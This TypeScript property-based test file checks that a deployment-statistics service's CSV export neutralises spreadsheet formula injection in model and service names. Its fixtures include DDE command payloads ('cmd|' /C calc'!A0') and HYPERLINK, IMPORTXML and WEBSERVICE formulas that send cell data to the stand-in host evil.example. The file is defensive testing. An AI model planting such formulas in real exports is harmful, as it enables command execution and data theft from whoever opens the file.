import { SAMPLE_DURATIONS } from "@deploy-lens/api/openapi/examples";
import { csvRows } from "@deploy-lens/api/statistics/deploy-durations-csv";
import { claim } from "@deploy-lens/core/testing/claim";
import { deploymentEvents } from "@deploy-lens/core/testing/deployment-events";
import { type Figure, never, sized } from "@deploy-lens/core/testing/figure";
import { hostileText } from "@deploy-lens/core/testing/hostile-text";
import { tryInputs } from "@deploy-lens/core/testing/try-inputs";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { toCsv } from "./statistics/csv.ts";
import { startApp, startArchive } from "./testing/running-app.ts";

const QUANTILES = [0.5, 0.9];

/** Spreadsheets evaluate a cell by its first character, full-width ones included. */
const FORMULA = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;

const STARTS = [
  ...["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", '"=', "'=", ";=", ",=", " =", "|="],
  "\0=",
];
const FORMULAS = [
  ...["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"click")'],
  ...['IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', 'WEBSERVICE("http://evil.example/"&A1)'],
  "SUM(1)*cmd|' /C calc'!A0",
];

// Names of models and services that are formulas, through the CSV writer and through the API.
claim("No name becomes a formula in a spreadsheet", async (run) => {
  const runs = sized(run, 2_000, 50_000, 50_000);
  const formula = fc
    .tuple(fc.constantFrom(...STARTS), fc.constantFrom(...FORMULAS))
    .map((parts) => parts.join(""));
  const inputs = fc.record({
    name: fc.oneof(formula, hostileText()),
    version: fc.oneof(formula, hostileText()),
  });
  const check = (model: { readonly name: string; readonly version: string }) => {
    const [group] = SAMPLE_DURATIONS.groups;
    if (group === undefined) throw new Error("the example has no group");
    const service = { id: "s", name: model.name };
    const answer = { ...SAMPLE_DURATIONS, groups: [{ ...group, key: { model, service } }] };
    const text = toCsv(answer, QUANTILES);
    assertHarmless(text);
    const [, row = []] = readCsv(text);
    const [raw = []] = csvRows(answer, QUANTILES);
    for (const [index, cell] of row.entries()) {
      if (
        cell.replace(/^'/, "") !==
        String(raw[index] ?? "")
          .toWellFormed()
          .replace(/^'/, "")
      ) {
        throw new Error(`a cell is not read as it was written: ${JSON.stringify(cell)}`);
      }
    }
  };
  return [
    never(
      "names whose cells begin like a formula, or are read back otherwise",
      await tryInputs({ inputs, runs, check }, run),
      runs,
    ),
    ...(await throughTheApi()),
  ];
});

function assertHarmless(text: string): void {
  const cell = readCsv(text)
    .flat()
    .find((one) => FORMULA.test(one));
  if (cell !== undefined) throw new Error(`a cell is ${JSON.stringify(cell)}`);
}

/** Stores deployments of models with these names and reads them as CSV. */
async function throughTheApi(): Promise<readonly Figure[]> {
  const archive = await startArchive();
  const names = STARTS.flatMap((start) => FORMULAS.slice(0, 2).map((formula) => `${start}${formula}`));
  const startMs = Date.now() - 86_400_000;
  for (const [index, name] of names.entries()) {
    await archive.keep("demo", "s", deploymentEvents(startMs + index * 200_000, `${name} =1+1`));
  }
  const { app, close } = await startApp({ app: { archive: async () => archive.store } });
  const answer = await app.request("/api/v1/projects/demo/services/s/deploy-durations?groupBy=model", {
    headers: { accept: "text/csv" },
  });
  const text = await answer.text();
  const cells = readCsv(text).flat();
  await Promise.all([close(), archive.close()]);
  const formulas = cells.filter((cell) => FORMULA.test(cell));
  return [
    never(
      "cells of the API's answer that begin like a formula",
      formulas,
      answer.status === 200 ? cells.length : 0,
    ),
  ];
}

/** By RFC 4180, strictly: a stray quote or a row of another length is an error. */
function readCsv(text: string): string[][] {
  return parse(text, { record_delimiter: "\r\n" });
}
